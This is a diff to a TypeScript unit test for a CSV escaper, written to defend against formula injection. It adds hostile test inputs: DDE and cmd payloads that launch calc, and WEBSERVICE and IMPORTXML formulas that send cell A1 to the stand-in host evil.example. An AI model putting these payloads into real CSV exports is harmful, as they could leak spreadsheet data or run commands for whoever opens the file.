@@ -9,9 +9,24 @@ function read(field: string): string {
 }
 
 const starts = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t=", "\u200b=", "＝", "＋", "－", "＠", "|", "%"];
-const rests = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example")', "SUM(A1:A9)", 'x","=1', "\n=1\r\n", ""];
+const rests = [
+  "1+1",
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.example")',
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+  'DDE("cmd";"/C calc";"x")',
+  "SUM(A1:A9)",
+  'x","=1',
+  "x;=1",
+  "'=1",
+  "=1",
+  "\n=1\r\n",
+  "",
+];
 
 test("what could be a formula begins with an apostrophe, and nothing leaves its field", () => {
+  expect(starts.length * rests.length).toBeGreaterThanOrEqual(200);
   for (const start of starts) {
     for (const rest of rests)
       expect(read(csvField(start + rest)), JSON.stringify(start + rest)).toBe(`'${start}${rest}`);
